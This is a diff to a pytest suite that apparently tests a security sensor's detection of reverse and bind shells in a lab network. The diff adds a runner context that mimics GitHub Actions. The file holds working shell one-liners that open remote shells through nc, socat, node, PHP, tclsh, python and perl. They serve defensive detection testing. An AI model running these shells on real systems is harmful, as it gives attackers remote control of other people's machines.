@@ -8,9 +8,11 @@ from __future__ import annotations
 import itertools
 import json
 import os
+import shlex
 import shutil
 import subprocess
 import sys
+import tempfile
 import time
 import uuid
 
@@ -52,6 +54,29 @@ def tagged(command: str) -> tuple[str, str]:
     return f"{command} # {token}", token
 
 
+CONTEXTS = ["plain", "ci"]
+# A stand-in GitHub Actions runner: the context root by its executable's name; it runs the step as a child.
+RUNNER = "#!/bin/bash\nbash -c \"$1\"\n"
+
+
+def in_context(command: str, context: str) -> str:
+    """``command`` as it runs: plain, or as a step of a (stand-in) GitHub Actions runner."""
+    if context == "plain":
+        return command
+    runner = os.path.join(tempfile.mkdtemp(prefix="cw-runner-"), "Runner.Worker")
+    with open(runner, "w") as fh:
+        fh.write(RUNNER)
+    os.chmod(runner, 0o755)
+    return f"{runner} {shlex.quote(command)}"
+
+
+def check_context(alert: dict, context: str) -> None:
+    want = None if context == "plain" else "cicd_runner_github_actions"
+    assert alert["supply_chain"]["context"] == want, alert["supply_chain"]
+    if want:
+        assert alert["event"]["severity"] >= 73
+
+
 def case_name() -> str:
     """This test's name, as a corpus file name."""
     name = os.environ.get("PYTEST_CURRENT_TEST", "case").split("::")[-1].split(" ")[0]
@@ -63,14 +88,14 @@ def mine(alerts: list[dict], token: str) -> list[dict]:
 
 
 def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "reverse_shell",
-            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15) -> dict:
+            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15, context: str = "plain") -> dict:
     """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
     port = next(_ports)
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
     listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(host=host, port=port))
-    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
+    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     received = listener.wait(timeout=timeout + 5)
     assert expect in received, received
@@ -93,39 +118,45 @@ def _fifo(tmp_path) -> str:
     return str(tmp_path / "f")
 
 
-def test_mkfifo_sh_openbsd_nc(sensorlab, netlab, tmp_path) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_mkfifo_sh_openbsd_nc(sensorlab, netlab, tmp_path, ctx) -> None:
     """`mkfifo; cat f | sh -i | nc H P > f` with OpenBSD nc: one reverse-shell incident naming nc's peer."""
     need("nc.openbsd")
-    reverse(sensorlab, netlab, FIFO_RELAY.format(f=_fifo(tmp_path)).replace("nc ", "nc.openbsd -q 1 ", 1))
+    reverse(sensorlab, netlab, FIFO_RELAY.format(f=_fifo(tmp_path)).replace("nc ", "nc.openbsd -q 1 ", 1), context=ctx)
 
 
-def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path, ctx) -> None:
     """The same relay made with `mknod p`, over IPv6."""
     need("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} "
-            f"{{port}} > {f}", family=6)
+            f"{{port}} > {f}", family=6, context=ctx)
 
 
-def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """busybox nc with a FIFO."""
     need("busybox")
     f = _fifo(tmp_path)
-    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}")
+    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}",
+            context=ctx)
 
 
-def test_socat_pty_exec(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_socat_pty_exec(sensorlab, netlab, ctx) -> None:
     """socat exec:'bash -li',pty,stderr,setsid: bash on a pty whose master socat holds."""
     need("socat")
-    reverse(sensorlab, netlab, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port}")
+    reverse(sensorlab, netlab, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port}", context=ctx)
 
 
-def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
     """`sh -i < f 2>&1 | nc H P > f`: the FIFO on the shell's own stdin, written by nc."""
     need("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} "
-            f"> {f}")
+            f"> {f}", context=ctx)
 
 
 # A one-shot attacker: accept one connection, type the payload, hang up after a second (a telnet client whose
@@ -165,35 +196,39 @@ NODE = ("node -e '(function(){{var net=require(\"net\"),cp=require(\"child_proce
         "sh.stderr.pipe(c);}});sh.on(\"exit\",function(){{c.end();}});}})();'")
 
 
-def test_node_net_child_process(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_node_net_child_process(sensorlab, netlab, ctx) -> None:
     """node net.Socket piped into child_process.spawn('/bin/sh') (socketpairs between them)."""
     need("node")
-    reverse(sensorlab, netlab, NODE)
+    reverse(sensorlab, netlab, NODE, context=ctx)
 
 
-def test_php_shell_exec_loop(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_php_shell_exec_loop(sensorlab, netlab, ctx) -> None:
     """A PHP loop reading commands from a socket and answering with shell_exec: one alert for the loop."""
     need("php")
     code = ('$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
             'fwrite($s,shell_exec($c));}}')
-    alert = reverse(sensorlab, netlab, f"php -r '{code}'")
+    alert = reverse(sensorlab, netlab, f"php -r '{code}'", context=ctx)
     assert alert["process"]["name"].startswith("php")
 
 
-def test_tclsh_socket_loop(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_tclsh_socket_loop(sensorlab, netlab, ctx) -> None:
     """A tclsh socket loop that execs each command it reads (fed its script on stdin)."""
     need("tclsh")
     script = ('set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
               'catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s')
-    reverse(sensorlab, netlab, f"echo '{script}' | tclsh")
+    reverse(sensorlab, netlab, f"echo '{script}' | tclsh", context=ctx)
 
 
-def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path, ctx) -> None:
     """python pty.spawn behind a FIFO relay to nc: sh on a pty whose master python holds."""
     need("nc.openbsd")
     f = _fifo(tmp_path)
     reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
-            f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}")
+            f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}", context=ctx)
 
 
 def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
@@ -232,13 +267,13 @@ sys.stdout.buffer.write(got)
 """
 
 
-def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15) -> dict:
+def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15, context: str = "plain") -> dict:
     """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
     port = next(_ports)
     victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
     command, token = tagged(command.format(port=port))
-    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
+    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     deadline = time.monotonic() + timeout
     got = b""
@@ -264,44 +299,50 @@ def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 1
     return last
 
 
-def test_bind_nc_traditional(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_nc_traditional(sensorlab, netlab, ctx) -> None:
     """nc.traditional -l -p P -e /bin/sh."""
     need("nc.traditional")
-    bind(sensorlab, netlab, "nc.traditional -l -p {port} -e /bin/sh")
+    bind(sensorlab, netlab, "nc.traditional -l -p {port} -e /bin/sh", context=ctx)
 
 
-def test_bind_socat(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_socat(sensorlab, netlab, ctx) -> None:
     """socat TCP-LISTEN EXEC:/bin/sh (a socketpair between socat and sh)."""
     need("socat")
-    bind(sensorlab, netlab, "socat TCP-LISTEN:{port},reuseaddr EXEC:/bin/sh")
+    bind(sensorlab, netlab, "socat TCP-LISTEN:{port},reuseaddr EXEC:/bin/sh", context=ctx)
 
 
-def test_bind_python_pty(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_python_pty(sensorlab, netlab, ctx) -> None:
     """python accept + dup2 + pty.spawn."""
     code = ('import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);'
             's.bind(("0.0.0.0",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];'
             'pty.spawn("/bin/sh")')
-    bind(sensorlab, netlab, f"python3 -c '{code}'")
+    bind(sensorlab, netlab, f"python3 -c '{code}'", context=ctx)
 
 
-def test_bind_perl(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_perl(sensorlab, netlab, ctx) -> None:
     """perl accept + open STDIN/STDOUT on the socket + exec sh."""
     code = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);'
             'bind(S,sockaddr_in({port},INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");'
             'open(STDERR,">&C");exec("/bin/sh -i");')
-    bind(sensorlab, netlab, f"perl -e '{code}'")
+    bind(sensorlab, netlab, f"perl -e '{code}'", context=ctx)
 
 
-def test_bind_busybox_nc(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_busybox_nc(sensorlab, netlab, ctx) -> None:
     """busybox nc -l -p P -e /bin/sh."""
     need("busybox")
-    bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh")
+    bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh", context=ctx)
 
 
-def test_bind_ncat_ipv6(sensorlab, netlab) -> None:
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_bind_ncat_ipv6(sensorlab, netlab, ctx) -> None:
     """ncat -6 -l -e /bin/sh over IPv6."""
     need("ncat")
-    bind(sensorlab, netlab, "ncat -6 -l -p {port} -e /bin/sh", family=6)
+    bind(sensorlab, netlab, "ncat -6 -l -p {port} -e /bin/sh", family=6, context=ctx)
 
 
 # ------------------------------------------------------------------ beacon
